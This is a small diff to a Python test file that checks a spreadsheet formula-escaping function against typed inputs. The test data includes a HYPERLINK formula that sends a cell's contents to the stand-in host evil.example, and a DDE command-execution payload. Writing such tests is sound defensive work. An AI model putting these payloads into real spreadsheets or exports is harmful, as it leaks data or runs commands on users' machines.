@@ -12,7 +12,7 @@ from counter_app.documents.spreadsheet_text import FORMULA_STARTS, formula_safe
 @pytest.mark.parametrize(
     "typed",
     [
-        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")",
+        '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
         "-2+3+cmd|' /C calc'!A0",
         "+SUM(1,2)",
         "@SUM(1)",
